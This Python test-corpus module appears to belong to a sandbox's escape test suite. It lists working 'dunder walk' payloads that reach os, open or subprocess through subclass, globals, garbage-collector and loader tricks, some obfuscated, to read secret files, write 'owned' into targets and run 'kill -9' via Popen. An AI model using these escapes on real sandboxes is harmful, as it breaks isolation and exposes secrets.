"""Walks over dunder attributes from any object to `os`, `open` or the import system."""

from tests.escapes.corpus import LOOT, TRY, Payload

PAYLOADS: list[Payload] = [
    Payload("dunder walk", "subclasses to a class with sys in its globals", (LOOT, r"""
for cls in ().__class__.__base__.__subclasses__():
    scope = getattr(getattr(cls, "__init__", None), "__globals__", {})
    if "sys" in scope:
        loot(scope["sys"].modules["os"])
        break
""")),
    Payload("dunder walk", "os._wrap_close", (LOOT, r"""
import types
wrap = [cls for cls in object.__subclasses__() if cls.__name__ == "_wrap_close"][0]
loot(types.SimpleNamespace(**wrap.__init__.__globals__))
""")),
    Payload("dunder walk", "catch_warnings module builtins", (r"""
import warnings
cls = [c for c in "".__class__.__mro__[-1].__subclasses__() if c.__name__ == "catch_warnings"][0]
builtins = cls()._module.__builtins__
print(builtins["open"]("{{SECRET}}").read())
""", r"""
builtins["open"]("{{TARGET}}", "a").write("owned")
""")),
    Payload("dunder walk", "BuiltinImporter found by walking", (LOOT, r"""
for cls in type.__subclasses__(type) + object.__subclasses__():
    if cls.__name__ == "BuiltinImporter":
        loot(cls.load_module("posix") if not hasattr(cls.load_module("posix"), "popen") else None)
        print(cls.load_module("posix").listdir("{{TARGETDIR}}"))
""")),
    Payload("dunder walk", "FileLoader.get_data", (r"""
for cls in object.__subclasses__():
    if cls.__name__ in ("FileLoader", "_frozen_importlib_external.FileLoader"):
        print(cls.get_data(cls("x", "{{SECRET}}"), "{{SECRET}}"))
""", r"""
loaders = [c for c in ().__class__.__mro__[1].__subclasses__() if hasattr(c, "get_data")]
for cls in loaders:
    try:
        print(cls, cls.get_data(object.__new__(cls), "{{SECRET}}"))
    except Exception as error:
        print(cls, error)
""")),
    Payload("dunder walk", "help of print's self", (r"""
builtins = print.__self__
os = builtins.__import__("os")
os.write(os.open("{{TARGET}}", os.O_WRONLY), b"owned by print")
print(os.read(os.open("{{SECRET}}", 0), 999))
""",)),
    Payload("dunder walk", "reduce_ex to copyreg to sys", (LOOT, r"""
copyreg = (1).__reduce_ex__(2)[0].__globals__
attempt("names", lambda: sorted(copyreg))
found = copyreg["__builtins__"]
found = found if isinstance(found, dict) else vars(found)
loot(found["__import__"]("os"))
""")),
    Payload("dunder walk", "getattr strings put together", (LOOT, r"""
def name(*codes):
    return "".join(map(chr, codes))
under = chr(95) * 2
walk = getattr(getattr((), under + "class" + under), under + name(98, 97, 115, 101) + under)
for cls in getattr(walk, under + "subclasses" + under)():
    try:
        scope = getattr(getattr(cls, under + "init" + under), under + "globals" + under)
        if under + "builtins" + under in scope:
            box = scope[under + "builtins" + under]
            loot((box if isinstance(box, dict) else vars(box))[under + "import" + under]("os"))
            break
    except AttributeError:
        pass
""")),
    Payload("dunder walk", "object.__getattribute__ and type.__getattribute__", (LOOT, r"""
class Quiet:
    def method(self):
        return 1
bound = Quiet().method
function = object.__getattribute__(bound, "__func__")
scope = object.__getattribute__(function, "__globals__")
loot(scope["__builtins__"].__import__("os") if not isinstance(scope["__builtins__"], dict)
     else scope["__builtins__"]["__import__"]("os"))
print([cls for cls in type.__getattribute__(object, "__subclasses__")() if "Popen" in cls.__name__])
""")),
    Payload("dunder walk", "Popen among the subclasses", (r"""
import subprocess
for cls in object.__subclasses__():
    if cls.__name__ == "Popen":
        print(cls(["/bin/cat", "{{SECRET}}"], stdout=-1).communicate())
        print(cls("echo owned >> {{TARGET}}; kill -9 {{PID}}", shell=True, stdout=-1, stderr=-1).communicate())
""",)),
    Payload("dunder walk", "globals of pandas and numpy functions", (LOOT, r"""
import numpy, pandas
def walk(start, depth=3):
    seen, todo = set(), [(start, 0)]
    while todo:
        value, level = todo.pop()
        if id(value) in seen or level > depth:
            continue
        seen.add(id(value))
        scope = getattr(value, "__globals__", None) or getattr(value, "__dict__", {})
        for key, inner in list(dict(scope).items()):
            if getattr(inner, "__name__", "") == "os" and hasattr(inner, "system"):
                return inner
            if callable(inner) or type(inner).__name__ == "module":
                todo.append((inner, level + 1))
attempt("pandas", lambda: loot(walk(pandas.read_csv)))
attempt("numpy", lambda: loot(walk(numpy.loadtxt)))
""")),
    Payload("dunder walk", "closure cells of decorated functions", (LOOT, r"""
import functools, contextlib, pandas
found = []
for module in (functools, contextlib, pandas.util._decorators, pandas.core.generic):
    for thing in list(vars(module).values()):
        for cell in getattr(thing, "__closure__", None) or ():
            try:
                found.append(cell.cell_contents)
            except ValueError:
                pass
        wrapped = getattr(thing, "__wrapped__", None)
        if wrapped is not None and hasattr(wrapped, "__globals__"):
            found.append(wrapped)
attempt("cells", lambda: len(found))
scope = next(f.__globals__ for f in found if hasattr(f, "__globals__") and "__builtins__" in f.__globals__)
box = scope["__builtins__"]
loot((box if isinstance(box, dict) else vars(box))["__import__"]("os"))
""")),
    Payload("dunder walk", "everything the collector knows", (LOOT, r"""
import gc
modules = [thing for thing in gc.get_objects() if type(thing).__name__ == "module"]
attempt("count", lambda: len(modules))
for module in modules:
    if module.__name__ in ("os", "posix") and hasattr(module, "kill"):
        loot(module)
files = [thing for thing in gc.get_objects() if hasattr(thing, "fileno") and hasattr(thing, "write")]
print(files)
sockets = [thing for thing in gc.get_objects() if type(thing).__name__ in ("socket", "Connection")]
print(sockets)
""")),
    Payload("dunder walk", "referrers of a harmless function", (LOOT, r"""
import gc
for holder in gc.get_referrers(print):
    if isinstance(holder, dict) and "__import__" in holder:
        loot(holder["__import__"]("os"))
        break
for holder in gc.get_referrers(attempt):
    print(type(holder), list(holder)[:50] if isinstance(holder, dict) else "")
""")),
    Payload("dunder walk", "module spec loader of a harmless module", (LOOT, r"""
import math, json
for module in (math, json):
    loader = module.__spec__.loader
    attempt("data", lambda: loader.get_data("{{SECRET}}"))
    attempt("source", lambda: type(loader)("x", "{{SECRET}}").get_source("x"))
    attempt("init", lambda: loader.create_module.__globals__)
    attempt("write", lambda: type(loader)("x", "{{TARGET}}").set_data("{{TARGET}}", b"owned"))
""")),
    Payload("dunder walk", "builtins rebuilt after deletion", (TRY, r"""
globals()["__builtins__"] = {}
""", r"""
scopes = [c.__init__.__globals__ for c in (1).__class__.__mro__[1].__subclasses__()
          if c.__name__ in ("_Printer", "_wrap_close")]
box = scopes[0]["__builtins__"]
box["print"](box["open"]("{{SECRET}}").read())
""", r"""
box["globals"]().pop("__builtins__", None)
""", r"""
print(open("{{SECRET}}").read())
""")),
    Payload("dunder walk", "_Printer of copyright reads a file", (r"""
import _sitebuiltins
printer = _sitebuiltins._Printer("x", "y", ("{{SECRET}}",), ("",))
printer._Printer__filenames = ["{{SECRET}}"]
printer._Printer__lines = None
printer._Printer__setup()
print(printer._Printer__lines)
""", r"""
copyright = type(license)("s", "", files=["SECRET"], dirs=["/"])
license._Printer__filenames = ["{{SECRET}}"]; license._Printer__lines = None
license
""")),
]
